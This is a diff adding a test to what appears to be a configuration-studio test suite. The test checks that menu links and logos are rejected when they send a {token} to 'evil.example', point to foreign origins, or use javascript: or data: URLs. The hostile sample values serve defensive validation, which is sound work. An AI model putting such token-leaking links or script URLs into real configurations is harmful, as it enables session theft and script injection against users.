@@ -184,6 +184,46 @@ describe('the studio refuses what npm run validate refuses', () => {
   });
 });
 
+describe('a config link cannot carry a session off-site or run a script', () => {
+  it('a {token} link to another site, javascript:, data: and a foreign logo are errors at their fields; none can be submitted', async () => {
+    const token = await editor();
+    const current = await tenant('demo', token);
+    const attacks: { edit: (d: Draft) => void; pointer: string; code: string }[] = [
+      {
+        edit: (d) => (d.tenant.menus.bottom[4].action = { action: 'openUrl', url: 'https://evil.example/steal?t={token}' }),
+        pointer: '/menus/bottom/4/action/url',
+        code: 'E_URL_TOKEN',
+      },
+      {
+        edit: (d) => (d.tenant.menus.bottom[4].action = { action: 'openUrl', url: 'https://evil.example/page' }),
+        pointer: '/menus/bottom/4/action/url',
+        code: 'E_URL_ORIGIN',
+      },
+      {
+        edit: (d) => (d.tenant.menus.bottom[4].action = { action: 'openUrl', url: 'https://t.example/x', query: { t: '{token}' } }),
+        pointer: '/menus/bottom/4/action/query/t',
+        code: 'E_URL_TOKEN',
+      },
+      {
+        edit: (d) => (d.tenant.menus.bottom[4].action = { action: 'openUrl', url: ' JavaScript:alert(1)' }),
+        pointer: '/menus/bottom/4/action/url',
+        code: 'E_URL_SCHEME',
+      },
+      { edit: (d) => (d.tenant.brand.logo = 'data:image/svg+xml,<svg/>'), pointer: '/brand/logo', code: 'E_URL_SCHEME' },
+      { edit: (d) => (d.tenant.brand.logo = 'https://evil.example/logo.svg'), pointer: '/brand/logo', code: 'E_URL_ORIGIN' },
+    ];
+    for (const attack of attacks) {
+      const draft = structuredClone(current.merged);
+      attack.edit(draft);
+      const found = await issuesOf(token, 'demo', draft);
+      expect(found, JSON.stringify(found)).toContain(`${attack.code} ${attack.pointer}`);
+      const submitted = await post('tenants/demo/changes', { baseVersion: current.version, title: 'Link', draft }, token);
+      expectError(submitted, 400, 'E_CONFIG_INVALID');
+      expect(submitted.json.value.issues).toContainEqual(expect.objectContaining({ pointer: attack.pointer, code: attack.code }));
+    }
+  });
+});
+
 describe('scripts/platform.ts', () => {
   it('sets four-eyes, roles and hosts through the same checks, audited as the command line', async () => {
     const registry = createTenantRegistry({ tenantsDir: server.tenantsDir, log: () => undefined });
